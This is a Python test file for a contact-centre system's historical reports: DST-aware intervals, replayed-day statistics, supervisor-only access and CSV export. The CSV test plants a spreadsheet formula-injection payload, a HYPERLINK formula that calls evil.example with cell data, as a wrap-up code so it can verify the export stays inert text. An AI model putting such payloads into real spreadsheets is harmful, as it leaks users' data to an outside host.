"""Historical reports from the archived ACD event log: a replayed day equals what the live statistics
said at the end of every 15 minutes; intervals follow the tenant's time zone across DST; CSV that a
spreadsheet opens safely; supervisors of the tenant only."""

from __future__ import annotations

import asyncio
import contextlib
import csv
import heapq
import io
import itertools
import json
import random
from collections import Counter
from datetime import UTC, datetime

import aiohttp
import asyncpg
from conftest import eventually, running_gateway, two_tenants_config
from history_helpers import history_gateway

from acd.devtools import builders as cfg
from acd.devtools.builders import started_engine
from acd.effects import Assigned, Offered
from acd.errors import AcdError
from acd.keys import AcdKeys
from acd.model import Task
from gateway.history import report_buckets as buckets
from gateway.history import reports, rows
from gateway.history.archive import Archiver

BERLIN = buckets.zone_of("Europe/Berlin")
TENANT = "rep"


# --- the engine in virtual time, archived into PostgreSQL ---------------------------------------

@contextlib.asynccontextmanager
async def pool_of(database_url: str):
    pool = await asyncpg.create_pool(database_url, min_size=1, max_size=2)
    try:
        yield pool
    finally:
        await pool.close()


async def archive(redis, pool, tenant: str) -> None:
    """Run the real archive consumer until every ACD event of ``tenant`` is in PostgreSQL."""
    archiver = Archiver(redis, pool, [tenant], "reports-test")
    task = asyncio.create_task(archiver.run(tenant, acd_events=True))
    try:
        total = await redis.xlen(AcdKeys(tenant).events())
        await eventually(lambda: pool.fetchval(
            "SELECT count(*) = $2 FROM acd_events WHERE tenant = $1", tenant, total), timeout=60)
    finally:
        task.cancel()
        with contextlib.suppress(asyncio.CancelledError):
            await task


def routing():
    return cfg.tenant(
        [cfg.agent("ada", skills={"s": 3, "t": 3}, capacity={"chat": 2, "email": 2}),
         cfg.agent("bob", skills={"s": 3, "t": 2}, capacity={"chat": 1, "email": 1}),
         cfg.agent("cy", skills={"s": 2, "t": 3}, capacity={"chat": 1, "email": 1}, auto_accept=True)],
        [cfg.queue("sales", skill="s", sla_threshold_s=20, wrapup_s=15, decline_cooldown_s=60),
         cfg.queue("tech", skill="t", sla_threshold_s=30, wrapup_s=0, decline_cooldown_s=60)],
        tenant_id=TENANT,
    )


class Day:
    """A day of contacts driven through the real engine: arrivals, accepts, declines, missed offers,
    abandons (some within seconds), transfers, closes with and without wrap-up codes, agents going
    away and offline. At the last instant of every 15 minutes it notes the live statistics."""

    def __init__(self, engine, start: float, end: float, seed: int = 7):
        self.engine, self.start, self.end = engine, start, end
        self.rng = random.Random(seed)
        self.heap: list = []
        self.seq = itertools.count()
        self.live: dict[float, dict] = {}
        self.answered: set[str] = set()
        self.done: set[str] = set()
        self.transferred: set[str] = set()
        self.enq: dict[str, float] = {}
        self.codes: Counter[str] = Counter()
        self.transfers = 0
        self.short_abandons = 0
        self.accepted: Counter[str] = Counter()

    def at(self, t: float, kind: str, *args) -> None:
        heapq.heappush(self.heap, (t, next(self.seq), kind, args))

    async def run(self) -> None:
        rng, s = self.rng, self.start
        t, n = s + 8 * 3600, 0
        while True:
            t += rng.expovariate(1 / 150)
            if t >= s + 18 * 3600:
                break
            queue, channel = rng.choice(["sales", "tech"]), rng.choice(["chat", "chat", "email"])
            patience = rng.uniform(1, 4) if rng.random() < 0.15 else rng.expovariate(1 / 300)
            self.at(t, "arrive", f"c{n}", queue, channel, patience)
            n += 1
        for tick in range(int(s + 8 * 3600 - 60), int(s + 19 * 3600), 5):
            self.at(tick, "tick")
        b = s
        while b < self.end:
            b = buckets.following(b, "15min", BERLIN)
            self.at(b - 0.001, "snap", b)
        self.at(s + 12 * 3600, "state", "bob", "away")
        self.at(s + 13 * 3600, "state", "bob", "available")
        self.at(s + 16 * 3600, "state", "cy", "offline")
        while self.heap:
            now, _, kind, args = heapq.heappop(self.heap)
            try:
                await self.step(now, kind, *args)
            except AcdError:
                pass  # the offer or task moved on meanwhile, as in real life

    async def step(self, now: float, kind: str, *args) -> None:
        e = self.engine
        if kind == "snap":
            self.live[args[0]] = await e.queue_stats(now)
        elif kind == "tick":
            self.react(await e.tick(now), now)
        elif kind == "arrive":
            tid, queue, channel, patience = args
            self.enq[tid] = now
            self.react(await e.submit(Task(tid, queue, channel, "en"), now), now)
            self.at(now + patience, "give_up", tid)
        elif kind == "give_up":
            tid = args[0]
            if tid not in self.answered and tid not in self.done:
                self.done.add(tid)
                self.react(await e.cancel(tid, "left", now), now)
                if now - self.enq[tid] <= reports.SHORT_ABANDON_S:
                    self.short_abandons += 1
        elif kind == "accept":
            self.react(await e.accept(*args, now), now)
        elif kind == "decline":
            self.react(await e.decline(*args, now), now)
        elif kind == "transfer":
            tid, queue = args
            if tid not in self.done:
                self.react(await e.transfer(tid, now, queue=queue), now)
                self.transfers += 1
        elif kind == "close":
            tid, code = args
            if tid not in self.done:
                self.done.add(tid)
                self.react(await e.close(tid, now, wrapup_code=code), now)
                if code:
                    self.codes[code] += 1
                elif self.rng.random() < 0.3:
                    self.at(now + 5, "wrapup", tid)
        elif kind == "wrapup":
            task = await e.task(args[0])
            if task and task.get("state") == "wrapup":
                self.react(await e.wrapup_done(task["agent"], args[0], "late", now), now)
                self.codes["late"] += 1
        elif kind == "state":
            self.react(await e.set_state(*args, now), now)

    def react(self, effects, now: float) -> None:
        rng = self.rng
        for fx in effects:
            if isinstance(fx, Offered):
                r = rng.random()
                if r < 0.7:
                    self.at(now + rng.uniform(1, 15), "accept", fx.agent_id, fx.offer_id)
                elif r < 0.85:
                    self.at(now + rng.uniform(1, 5), "decline", fx.agent_id, fx.offer_id)
                # else: nobody answers; the offer expires (missed)
            elif isinstance(fx, Assigned):
                self.answered.add(fx.task_id)
                self.accepted[fx.agent_id] += 1
                if fx.task_id not in self.transferred and rng.random() < 0.15:
                    self.transferred.add(fx.task_id)
                    self.at(now + rng.uniform(20, 60), "transfer", fx.task_id, "tech" if fx.queue == "sales" else "sales")
                else:
                    code = rng.choice(["sale", "info", "", ""])
                    self.at(now + rng.expovariate(1 / 240), "close", fx.task_id, code)


LIVE_KEYS = ("answered", "abandoned", "abandoned_closed", "service_level", "asa_s", "handled", "declined", "missed")


async def test_a_replayed_day_equals_the_live_figures_of_every_15_minutes(redis, database_url, history_db):
    day_start = buckets.parse_bound("2026-03-29", BERLIN, end=False)  # a DST day: 23 hours
    day_end = buckets.parse_bound("2026-03-29", BERLIN, end=True)
    config = routing()
    engine = await started_engine(redis, config)
    await engine.set_state("ada", "available", day_start - 3600)  # since the evening before
    await engine.set_state("bob", "available", day_start + 7 * 3600)
    await engine.set_state("cy", "available", day_start + 7 * 3600)
    day = Day(engine, day_start, day_end)
    await day.run()

    async with pool_of(database_url) as pool:
        await archive(redis, pool, TENANT)
        grid = buckets.grid(day_start, day_end, "15min", BERLIN)
        report = await reports.build(pool, TENANT, grid, queues=dict(config.queues),
                                     agents={"ada": "Ada", "bob": "Bob", "cy": "Cy"}, now=day_end + 1)
        by_day = await reports.build(pool, TENANT, buckets.grid(day_start, day_end, "day", BERLIN),
                                     queues=dict(config.queues), agents={}, now=day_end + 1)

    assert len(grid) == 92 and len(day.live) == 92
    compared = 0
    for row in report.rows("queues"):
        bucket_end = buckets.following(row["start"], "15min", BERLIN)
        live = day.live[bucket_end][row["queue"]]
        assert row["offered"] == live["arrivals"], row["interval"]
        for key in LIVE_KEYS:
            assert row[key] == live[key], (row["interval"], row["queue"], key)
        if row["handled"]:
            assert row["aht_s"] == live["aht_s"]
        compared += row["offered"] + row["handled"]
    assert compared > 300  # the day was busy enough to mean something

    [sales, tech] = by_day.totals("queues")
    answered = sales["answered"] + tech["answered"]
    assert sales["offered"] + tech["offered"] == sum(r["offered"] for r in report.rows("queues")) > 150
    assert answered == len(day.answered) and sales["abandoned"] + tech["abandoned"] > 10
    assert sales["declined"] + tech["declined"] > 5 and sales["missed"] + tech["missed"] > 5
    assert sales["short_abandoned"] + tech["short_abandoned"] == day.short_abandons > 0
    assert sales["transfers"] + tech["transfers"] == day.transfers > 0
    assert Counter(sales["wrapup_codes"]) + Counter(tech["wrapup_codes"]) == day.codes
    channels = {r["channel"]: r for r in by_day.totals("channels")}
    assert channels["chat"]["offered"] + channels["email"]["offered"] == sales["offered"] + tech["offered"]
    assert channels["chat"]["answered"] > 0 and channels["email"]["answered"] > 0

    agents = {r["agent"]: r for r in by_day.totals("agents")}
    assert {a: agents[a]["accepted"] for a in day.accepted} == dict(day.accepted)
    assert agents["ada"]["logged_in_s"] == 23 * 3600  # available since the evening before: the whole day
    assert agents["cy"]["logged_in_s"] == 9 * 3600  # 07:00 to 16:00, then offline
    assert agents["bob"]["logged_in_s"] == (23 - 7) * 3600  # away counts as logged in
    for a in agents.values():
        assert 0 < a["occupancy"] <= 1 and a["busy_s"] <= a["logged_in_s"]
        assert a["handled"] > 0 and a["aht_s"] > 0


async def test_intervals_follow_berlin_time_across_the_autumn_dst_switch(redis, database_url, history_db):
    # 2026-10-25: 02:00-03:00 happens twice (CEST, then CET); the day has 25 hours
    day_start = buckets.parse_bound("2026-10-25", BERLIN, end=False)
    day_end = buckets.parse_bound("2026-10-25", BERLIN, end=True)
    assert day_end - day_start == 25 * 3600
    first_two = datetime(2026, 10, 25, 0, 30, tzinfo=UTC).timestamp()  # 02:30 CEST
    second_two = datetime(2026, 10, 25, 1, 30, tzinfo=UTC).timestamp()  # 02:30 CET
    late = datetime(2026, 10, 25, 22, 50, tzinfo=UTC).timestamp()  # 23:50 CET: still the 25th in Berlin
    engine = await started_engine(redis, routing(), ("cy",))
    await engine.submit(Task("d1", "tech", "chat", "en"), first_two)  # cy takes it at once (auto-accept)
    await engine.close("d1", first_two + 60, wrapup_code="x")
    await engine.set_state("cy", "away", first_two + 61)  # (away is still logged in)
    for i, t in enumerate((second_two, second_two + 5, late)):
        await engine.submit(Task(f"d{i + 2}", "sales", "chat", "en"), t)
        await engine.cancel(f"d{i + 2}", "left", t + 1)

    async with pool_of(database_url) as pool:
        await archive(redis, pool, TENANT)
        hourly = await reports.build(pool, TENANT, buckets.grid(day_start, day_end, "hour", BERLIN),
                                     queues=dict(routing().queues), agents={"cy": "Cy"}, now=day_end + 1)
        daily = await reports.build(pool, TENANT, buckets.grid(day_start, day_end, "day", BERLIN),
                                    queues=dict(routing().queues), agents={"cy": "Cy"}, now=day_end + 1)

    body = hourly.as_json("queues")
    labels = [b["label"] for b in body["buckets"]]
    assert len(labels) == 25
    assert labels[2:5] == ["2026-10-25T02:00:00+02:00", "2026-10-25T02:00:00+01:00", "2026-10-25T03:00:00+01:00"]
    offered = {(r["interval"], r["queue"]): r["offered"] for r in body["rows"] if r["offered"]}
    assert offered == {("2026-10-25T02:00:00+02:00", "tech"): 1, ("2026-10-25T02:00:00+01:00", "sales"): 2,
                       ("2026-10-25T23:00:00+01:00", "sales"): 1}
    sales = next(r for r in daily.totals("queues") if r["queue"] == "sales")
    assert (sales["offered"], sales["abandoned"], sales["short_abandoned"]) == (3, 3, 3)
    [cy] = [r for r in daily.totals("agents") if r["agent"] == "cy"]
    assert cy["logged_in_s"] == 25 * 3600  # available since long before: all 25 hours of the day
    assert cy["handled"] == 1 and cy["aht_s"] == 60 and cy["wrapup_codes"] == {"x": 1}


# --- the REST API ---------------------------------------------------------------------------------


DAY = "2025-11-03"
EVIL_CODE = '=HYPERLINK("http://evil.example/?"&A1,"click")'
QUOTED_CODE = 'said "thanks", left'


async def demo_events(db, tenant: str = "demo") -> None:
    """A morning of the demo tenant as the archive would hold it (09:00 Berlin = 08:00 UTC)."""
    base = datetime(2025, 11, 3, 8, 0, tzinfo=UTC).timestamp()
    events = []
    for i, (queue, code) in enumerate((("billing", EVIL_CODE), ("billing", QUOTED_CODE), ("tech", ""))):
        t = base + i * 600
        m = str(int(t // 60))
        events += [
            ("submit", t, {"q": queue, "m": m, "task": f"k{i}", "ch": "chat", "enq": str(t), "c:arrivals": "1"}),
            ("offer", t + 2, {"q": queue, "m": m, "task": f"k{i}", "agent": "anna", "c:offers": "1"}),
            ("assign", t + 4, {"q": queue, "m": m, "task": f"k{i}", "agent": "anna", "c:answered": "1",
                               "c:wait_ms": "4000", "c:in_sl": "1"}),
            ("release", t + 124, {"q": queue, "m": str(int((t + 124) // 60)), "task": f"k{i}", "agent": "anna",
                                  "c:handled": "1", "c:handle_ms": "120000"}),
            ("close", t + 124, {"q": queue, "task": f"k{i}", "reason": "agent", "code": code}),
        ]
    events.append(("submit", base + 2000, {"q": "@evil", "m": str(int((base + 2000) // 60)), "task": "k9",
                                            "ch": "chat", "enq": str(base + 2000), "c:arrivals": "1"}))
    await db.executemany(rows.INSERT_ACD_EVENT, [
        rows.acd_event_row(tenant, f"{int(t * 1000)}-{n}", {"ev": ev, "ts": repr(t), **f})
        for n, (ev, t, f) in enumerate(events)
    ])


async def get(gw, path: str, token: str | None) -> aiohttp.ClientResponse:
    async with aiohttp.ClientSession() as http:
        headers = {"Authorization": f"Bearer {token}"} if token else {}
        async with http.get(f"{gw.url}{path}", headers=headers) as r:
            await r.read()
            return r


async def test_csv_has_a_header_rfc4180_quoting_and_no_formulas(redis, redis_url, demo_config, database_url, history_db):
    await demo_events(history_db)
    async with history_gateway(demo_config, redis_url, database_url) as gw:
        token = (await gw.login("sam"))["token"]
        r = await get(gw, f"/api/v1/reports/queues?from={DAY}&to={DAY}&interval=hour&format=csv", token)
        assert r.status == 200 and r.content_type == "text/csv"
        assert f'filename="queues-{DAY}-hour.csv"' in r.headers["Content-Disposition"]
        text = (await r.text())
        assert "\r\n" in text
        table = list(csv.reader(io.StringIO(text)))
        header, body = table[0], table[1:]
        assert header[:3] == ["interval", "queue", "name"] and "service_level" in header and "wrapup_codes" in header
        assert len(body) == 24 * 4  # every hour of the day for billing, sales, tech and the unknown "@evil"
        nine = {row[1]: dict(zip(header, row, strict=True)) for row in body if row[0] == "2025-11-03T09:00:00+01:00"}
        assert nine["billing"]["offered"] == "2" and nine["billing"]["answered"] == "2"
        assert nine["billing"]["asa_s"] == "4.0" and nine["billing"]["aht_s"] == "120.0"
        assert nine["billing"]["service_level"] == "1.0"
        # a formula typed as a wrap-up code stays text; quotes and commas survive the round trip
        codes = nine["billing"]["wrapup_codes"]
        assert codes.startswith("'") and EVIL_CODE in codes and QUOTED_CODE in codes
        assert '"said ""thanks"", left' in text or 'said ""thanks"", left' in text
        assert "'@evil" in {row[1] for row in body}
        for row in body:
            for cell in row:
                assert not cell.startswith(("=", "+", "-", "@")), cell

        r = await get(gw, f"/api/v1/reports/agents?from={DAY}&to={DAY}&interval=day", token)
        data = json.loads(await r.text())
        anna = next(x for x in data["totals"] if x["agent"] == "anna")
        assert (anna["offered"], anna["accepted"], anna["handled"], anna["aht_s"]) == (3, 3, 3, 120.0)
        assert data["timezone"] == "Europe/Berlin" and len(data["buckets"]) == 1


async def test_agents_are_refused_and_other_tenants_see_nothing(redis, redis_url, database_url, history_db):
    await demo_events(history_db)
    config = two_tenants_config()
    async with history_gateway(config, redis_url, database_url) as gw:
        query = f"?from={DAY}&to={DAY}&interval=day"
        assert (await get(gw, f"/api/v1/reports/queues{query}", None)).status == 401
        anna = (await gw.login("anna"))["token"]
        for dim in ("queues", "channels", "agents"):
            r = await get(gw, f"/api/v1/reports/{dim}{query}", anna)
            assert r.status == 403
        sue = (await gw.login("sue", "anna-demo"))["token"]
        for dim in ("queues", "channels", "agents"):
            r = await get(gw, f"/api/v1/reports/{dim}{query}", sue)
            data = json.loads(await r.text())
            assert r.status == 200
            keys = {row.get("queue") or row.get("channel") or row.get("agent") for row in data["totals"]}
            assert not keys & {"billing", "tech", "anna", "@evil"}
            assert all(not row["offered"] for row in data["rows"] + data["totals"])
        sam = (await gw.login("sam"))["token"]
        r = await get(gw, f"/api/v1/reports/queues{query}", sam)
        assert sum(x["offered"] for x in json.loads(await r.text())["totals"]) == 4


async def test_bad_ranges_are_refused_clearly(redis, redis_url, demo_config, database_url, history_db):
    async with history_gateway(demo_config, redis_url, database_url) as gw:
        token = (await gw.login("sam"))["token"]
        cases = {
            "?from=2025-11-04&to=2025-11-03": "bad_range",
            "?from=yesterday": "bad_range",
            "?from=2025-11-03&interval=minute": "bad_interval",
            "?from=2025-01-01&to=2025-03-01&interval=15min": "range_too_large",
            "?from=2025-11-03&format=xlsx": "bad_format",
        }
        for query, code in cases.items():
            async with aiohttp.ClientSession() as http, http.get(
                    f"{gw.url}/api/v1/reports/queues{query}", headers={"Authorization": f"Bearer {token}"}) as r:
                body = await r.json()
                assert (r.status, body["error"]["code"]) == (400, code), query
                assert body["error"]["message"]
        async with aiohttp.ClientSession() as http, http.get(
                f"{gw.url}/api/v1/reports/queues?from=2025-01-01&to=2025-03-01&interval=15min",
                headers={"Authorization": f"Bearer {token}"}) as r:
            assert "at most 7 days" in (await r.json())["error"]["message"]
        async with aiohttp.ClientSession() as http, http.get(f"{gw.url}/api/v1/openapi.json") as r:
            assert "/api/v1/reports/queues" in (await r.json())["paths"]


async def test_without_a_history_database_reports_answer_503(redis, redis_url, demo_config):
    async with running_gateway(demo_config, redis_url) as gw:
        token = (await gw.login("sam"))["token"]
        async with aiohttp.ClientSession() as http, http.get(
                f"{gw.url}/api/v1/reports/agents?format=csv", headers={"Authorization": f"Bearer {token}"}) as r:
            assert r.status == 503 and (await r.json())["error"]["code"] == "history_unavailable"
